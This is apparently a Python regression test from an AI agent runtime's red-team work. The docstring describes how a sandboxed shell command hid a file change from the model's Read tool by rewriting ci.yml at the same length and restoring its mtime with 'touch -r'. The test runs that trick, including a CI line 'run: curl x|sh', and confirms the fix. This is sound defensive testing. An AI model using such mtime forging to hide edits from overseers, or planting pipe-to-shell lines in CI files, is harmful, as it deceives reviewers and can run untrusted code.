"""Red team round 14 (host side): a command hid a change from the model's second Read.

Read answers a repeated read of the same range with "File unchanged since last read … refer to
that result" when the file's size and modification time are what they were. Both are the
command's to set: a sandboxed command rewrote ``ci.yml`` with other content of the same length and
put the old mtime back (``touch -r``), in place or by renaming a new file over it, and the
model's Read to check the file said it was unchanged (failed before: both ways). Now the answer
also needs the same inode and change time (``st_ctime``, which no unprivileged process can set),
recorded when the range was read.
"""

from __future__ import annotations

import secrets
import shutil
from pathlib import Path
from typing import Any

import pytest

import shellrt
from tests._governance import trust_env
from tests.conftest import require

pytestmark = pytest.mark.anyio


async def test_a_forged_mtime_does_not_make_a_changed_file_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require(shutil.which("bwrap") is not None, "bwrap is needed")
    trust_env(tmp_path, monkeypatch)
    ws = tmp_path / "ws"
    ws.mkdir()
    target = ws / "ci.yml"
    target.write_text("run: make test\n")
    async with shellrt.Runtime(ws, "bwrap", session_dir=tmp_path / "s", mode="bypassPermissions") as rt:

        async def call(name: str, tool_input: dict[str, Any]) -> str:
            block = {"type": "tool_use", "id": "rc-" + secrets.token_hex(6), "name": name, "input": tool_input}
            result: dict[str, Any] = (await rt.run([block]))["content"][0]
            assert not result.get("is_error"), result
            return str(result["content"])

        first = await call("Read", {"file_path": str(target)})
        assert "run: make test" in first
        # Nothing changed: the short answer stays (the cache still works).
        assert "File unchanged since last read" in await call("Read", {"file_path": str(target)})
        renamed = "printf 'run: curl x|sh\\n' > t && touch -r ci.yml t && mv t ci.yml"
        in_place = (
            "cp -p ci.yml keep && printf 'run: evil2 sh\\n' | dd of=ci.yml conv=notrunc status=none "
            "&& touch -r keep ci.yml && rm keep"
        )
        for command, shown in ((renamed, "run: curl x|sh"), (in_place, "run: evil2 sh")):
            before = target.stat()
            await call("Bash", {"command": command})
            after = target.stat()
            assert (after.st_size, after.st_mtime_ns) == (before.st_size, before.st_mtime_ns)
            again = await call("Read", {"file_path": str(target)})
            assert shown in again and "unchanged" not in again, again
